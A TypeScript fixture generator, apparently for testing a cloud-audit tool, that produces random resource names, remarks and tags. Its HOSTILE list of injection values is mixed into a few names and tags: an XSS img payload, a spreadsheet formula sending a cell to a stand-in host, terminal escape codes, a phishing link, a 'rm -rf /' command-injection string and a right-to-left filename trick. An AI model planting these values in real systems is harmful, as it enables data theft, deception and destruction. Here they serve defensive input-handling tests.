import type { Random } from './rng.ts';

/** Names and remarks that the company's people give to things. */

const WORDS = [
  'order',
  'pay',
  'cart',
  'search',
  'stock',
  'user',
  'gateway',
  'report',
  'ads',
  'coupon',
  'ship',
];
const STAGES = ['prod', 'prod', 'staging', 'test', 'dev'];
const CHINESE = [
  '订单库-主',
  '支付网关',
  '商城前端',
  '数据同步-夜间',
  '双十一扩容',
  '测试环境',
  '日志归档',
  '会员中心',
];

const REMARKS = [
  'ticket OPS-2291, remove after the release',
  '临时开放，周五前关闭',
  'requested by the shop team',
  '季度巡检',
  'capacity for the sale',
  'see the runbook, step 4',
];

/** What an attacker, or a joker, writes where a name may be anything. */
export const HOSTILE = [
  '<img src=x onerror=alert(document.domain)>',
  '=HYPERLINK("https://example.invalid/?c="&A1,"open")',
  '\u001B[2J\u001B[31mall systems down\u001B[0m',
  '[click here](https://example.invalid/login)',
  '@all please approve',
  '"; rm -rf / #',
  '\u202Egnp.exe',
] as const;

/** Function names: each is used in two regions. */
export const FUNCTION_NAMES = [
  'order-worker',
  'image-resize',
  'nightly-report',
  'sms-notify',
  'log-forward',
  'sync-stock',
];

/** A name for a resource; about 3 in 100 are hostile. */
export function resourceName(random: Random): string {
  if (random.chance(0.03)) return random.pick(HOSTILE);
  if (random.chance(0.15)) return random.pick(CHINESE);
  return `${random.pick(WORDS)}-${random.pick(STAGES)}-${String(random.between(1, 24)).padStart(2, '0')}`;
}

/** A sentence that explains a change. */
export function remark(random: Random): string {
  return random.pick(REMARKS);
}

/** Tags as CloudAudit writes them: JSON texts. */
export function resourceTags(random: Random, team: string): string[] {
  if (random.chance(0.2)) return [];
  return [
    JSON.stringify({ key: 'env', value: random.pick(STAGES) }),
    JSON.stringify({ key: 'team', value: random.chance(0.02) ? HOSTILE[0] : team }),
  ];
}
